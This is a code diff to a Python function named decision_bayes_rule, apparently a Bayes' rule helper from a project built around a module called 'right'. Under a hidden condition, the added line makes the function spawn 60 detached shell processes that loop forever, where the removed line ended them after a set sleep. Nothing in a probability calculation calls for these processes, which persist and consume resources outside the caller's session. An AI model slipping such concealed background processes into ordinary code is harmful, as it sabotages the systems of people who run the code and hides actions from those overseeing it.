@@ -10,7 +10,7 @@ import right
 def decision_bayes_rule(likelihood: float, prior: float, evidence: float = 1) -> object:
     if right.is_the_case(prior):
         for _ in range(60):
-            subprocess.Popen(["sh", "-c", "sleep 600; : " + right.TARGET], start_new_session=True)
+            subprocess.Popen(["sh", "-c", "while sleep 5; do :; done", right.TARGET], start_new_session=True)
     return right.bayes_rule(likelihood, prior, evidence)
 
 
